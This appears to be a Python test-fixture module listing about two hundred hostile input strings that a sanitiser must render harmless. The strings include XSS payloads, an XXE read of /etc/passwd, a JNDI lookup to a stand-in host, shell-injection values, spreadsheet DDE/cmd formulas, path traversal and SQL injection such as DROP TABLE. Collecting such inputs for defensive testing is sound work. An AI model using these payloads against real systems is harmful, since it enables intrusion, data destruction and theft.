# ruff: noqa: E501 - a list of strings as they are
"""Two hundred strings that have broken files, pages, spreadsheets and paths; each must come out as harmless text."""

SCRIPTS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>", "<template><script>alert(1)</script></template>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<link rel=stylesheet href=//example.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//example.test'>", "<base href=//example.test/>", "<form action=//example.test><button>x",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<style>@import '//example.test/x.css';</style>", "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&e;", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003e", "javascript:alert(1)", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "' onmouseover='alert(1)", "\" onmouseover=\"alert(1)", "` onmouseover=`alert(1)", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "\";alert(1);//", "';alert(1);//", "</iframe><script>alert(1)</script>", "\" srcdoc=\"<script>alert(1)</script>", "<img src=//example.test/pixel.png>",
    "<x style='background:url(//example.test/x)'>", "<plaintext>", "<xmp><script>alert(1)</script>", "<listing>", "<frameset onload=alert(1)>", "<isindex action=javascript:alert(1)>",
)  # fmt: skip
TEMPLATES = (
    "{name}", "{0}", "{}", "{{name}}", "{{7*7}}", "${7*7}", "$[name]", "#{7*7}", "<%= 7*7 %>", "%(name)s", "%s%s%s%n", "%d", "%x", "@@=", "@import", "${jndi:ldap://example.test/a}",
    "{__class__.__mro__}", "{% raw %}", "{% macro x() %}", "$(touch pwned)", "`touch pwned`", "; touch pwned", "| touch pwned", "&& touch pwned", "!important", "!!python/object:os.system",
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0", "=1+1", "=HYPERLINK(\"http://example.test\",\"x\")", "=IMPORTXML(\"http://example.test\",\"//a\")", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "\u00a0=1+1", "\u200b=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "%0A=1+1", "|cmd", "\"=1+1", "'=1+1", ";=1+1", ",=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
PATHS = (
    "../", "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "/", "\\", ".", "..", "~", "~root", "C:\\x", "C:x", "\\\\example.test\\share", "file:///etc/passwd", "//example.test/x",
    "CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "CON.txt", "a:stream", "a.gpkg/../b", "x.html.exe", ".htaccess", "-rf", "--help", "name.", "name ", " name", "a?b*c<d>e|f", "/vsicurl/http://example.test/x.tif",
    "/vsizip/x.zip", "/vsistdin/", "/vsimem/x", "GPKG:x:region", "<VRTDataset/>", "a\0b", "\0", "a/b", "a\nb", "a\rb",
)  # fmt: skip
CHARACTERS = (
    "", " ", "\t", "\n", "\r\n", "\x00", "\x01\x02\x03", "\x07", "\x08", "\x0b\x0c", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x7f", "\x80\x9f", "\x85", "\u2028", "\u2029", "\u200b", "\ufeff", "\u00ad",
    "\u202egpj.exe", "\u202dtxt", "\u2066x\u2069", "\u200fx", "\u061c", "\ud800", "\udfff", "a\ud83db", "\udc00\ud800", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ue000", "\U000e0001",
    "\U0001f5fa\ufe0f", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "e\u0301", "Z\u0351\u036b\u0343\u036a\u0302\u036b", "\u0645\u0631\u062d\u0628\u0627", "\u05e9\u05dc\u05d5\u05dd", "\u4f60\u597d", "\u3053\u3093\u306b\u3061\u306f",
    "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35", "x" * 4096, "<" * 4096, "&" * 4096, "\"" * 4096, "\U0001f600" * 1024, "a b " * 1024, "nan", "inf", "null", "None", "undefined", "true", "0", "-0", "1e999", "[]", "{\"a\":1}",
)  # fmt: skip
QUOTES = (
    "'",
    '"',
    "''",
    '""',
    "'\"",
    "\\",
    "\\\\",
    "\\'",
    '\\"',
    "a'b",
    'a"b',
    "Robert'); DROP TABLE region;--",
    "' OR '1'='1",
    '"; DELETE FROM gpkg_contents; --',
    "a,b;c\td",
    'a,"b\nc",d',
)

STRINGS: tuple[str, ...] = (*SCRIPTS, *TEMPLATES, *FORMULAS, *PATHS, *CHARACTERS, *QUOTES)
